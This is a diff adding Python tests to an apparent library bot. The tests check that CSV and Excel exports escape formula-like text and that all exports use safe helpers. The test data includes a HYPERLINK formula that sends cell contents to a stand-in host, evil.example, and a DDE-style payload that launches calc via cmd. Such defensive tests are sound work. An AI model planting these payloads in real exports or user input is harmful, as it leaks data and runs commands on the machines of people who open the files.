@@ -99,3 +99,68 @@ async def test_a_link_code_deep_link_in_a_group_is_refused_and_not_used_up(libs:
     said = await say(f"/start {slip.payload}", "private", "u7")
     assert student.full_name in said and (await chat_actor(libs, "u7")).is_linked
     assert student.full_name not in await say("/start", "group", "-100")   # no greeting by name either
+
+
+# -- 2. exports never carry formulas -------------------------------------------------------------------
+
+EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"Bấm vào đây")'
+
+
+async def test_exports_write_formula_like_text_as_text(demo_app):
+    import csv
+    import io
+    from datetime import timedelta
+
+    from openpyxl import load_workbook
+    from sqlalchemy import update
+
+    from services import campaigns, reflections
+    from services.models import Patron, Title
+    from tests.test_campaigns import new_campaign
+    from tests.test_reflections import TEXT_60, actor_for, lend, some_titles, written
+
+    app = demo_app
+    now = app.deps.clock.now()
+    librarian = await actor_for(app.db, "l1", "TT001")
+    student = await actor_for(app.db, "s1", "HS001")
+    c = await new_campaign(app, librarian, goal_books=1, goal_reflections=1)
+    await campaigns.join(app.db, student, c.id, app.deps.clock)
+    [title] = await some_titles(app.db, 1)
+    await lend(app.db, "HS001", title, now - timedelta(days=6), now - timedelta(days=1))
+    d = await written(app, student, title, text="@SUM(1+1)*cmd|' /C calc'!A0 " + TEXT_60)
+    await reflections.submit(app.db, student, d.id, app.deps.clock)
+    await reflections.moderate(app.db, librarian, d.id, "approve", clock=app.deps.clock)
+    async with app.db.transaction() as s:
+        await s.execute(update(Title).where(Title.id == title).values(title=EVIL))
+        await s.execute(update(Patron).where(Patron.card_number == "HS001").values(full_name="+1-2 Châu",
+                                                                                   class_name="-11A1"))
+    t = app.deps.catalogs.translator("vi", app.deps.timezone)
+    for shortlisted in (False, True):
+        if shortlisted:
+            await campaigns.shortlist(app.db, librarian, c.id, d.id, True, clock=app.deps.clock)
+        data = await campaigns.export_reflections(app.db, c.id, "csv", t, actor=librarian,
+                                                  shortlisted_only=shortlisted)
+        [_, row] = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+        assert row[0] == "'+1-2 Châu" and row[1] == "'-11A1" and row[2] == "'" + EVIL
+        assert row[5].startswith("'@SUM")
+        sheet = load_workbook(io.BytesIO(await campaigns.export_reflections(
+            app.db, c.id, "xlsx", t, actor=librarian, shortlisted_only=shortlisted))).active
+        cells = [cell for row in sheet.iter_rows() for cell in row]
+        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+        assert sheet["C2"].value == EVIL and sheet["A2"].value == "+1-2 Châu"
+
+
+def test_every_csv_and_xlsx_writer_goes_through_the_safe_helpers():
+    """A new export that calls csv.writer or ws.append directly would skip the rule above."""
+    import pathlib
+    import re
+
+    root = pathlib.Path(__file__).resolve().parent.parent
+    offenders = []
+    for path in [*root.glob("services/**/*.py"), *root.glob("bot/**/*.py"), *root.glob("handlers/**/*.py")]:
+        if path.name == "spreadsheets.py":
+            continue
+        text = path.read_text(encoding="utf-8")
+        if re.search(r"csv\.(writer|DictWriter)\(|\bws\.append\(|\.cell\(.*value=", text):
+            offenders.append(path.relative_to(root).as_posix())
+    assert offenders == []
